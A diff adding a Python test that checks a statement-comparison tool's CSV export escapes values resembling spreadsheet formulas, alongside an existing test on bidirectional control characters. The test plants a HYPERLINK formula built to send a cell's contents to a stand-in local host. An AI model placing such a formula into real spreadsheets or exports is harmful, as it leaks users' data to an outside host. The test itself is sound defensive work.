@@ -143,3 +143,28 @@ def test_bidi_controls_reach_the_terminal_as_markers(corpus: Path) -> None:
     assert proc.returncode == 0, proc.stderr
     assert "⟫001⟫" in proc.stdout
     assert not any(ch in proc.stdout for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
+
+
+def test_statements_that_look_like_spreadsheet_formulas_are_exported_as_text() -> None:
+    import csv
+    import io
+    from dataclasses import replace
+
+    from claimcmp.export import _cell, comparison_to_csv
+
+    from .html_samples import sample_comparison
+
+    comparison = sample_comparison()
+    flagged = next(p for p in comparison.pairs if p.flags)
+    payload = '=HYPERLINK("http://127.0.0.1:9/?"&A1, "click")'
+    segments = tuple(replace(s, text=payload) if s.id == flagged.a else s for s in comparison.segments)
+    rows = list(csv.DictReader(io.StringIO(comparison_to_csv(replace(comparison, segments=segments)))))
+    assert any(row["text_a"] == "'" + payload for row in rows)
+    assert [_cell(t) for t in ("+1", "@SUM(A1)", "-1+2", "- Путин сказал", "Путин", "2024")] == [
+        "'+1",
+        "'@SUM(A1)",
+        "'-1+2",
+        "- Путин сказал",
+        "Путин",
+        "2024",
+    ]
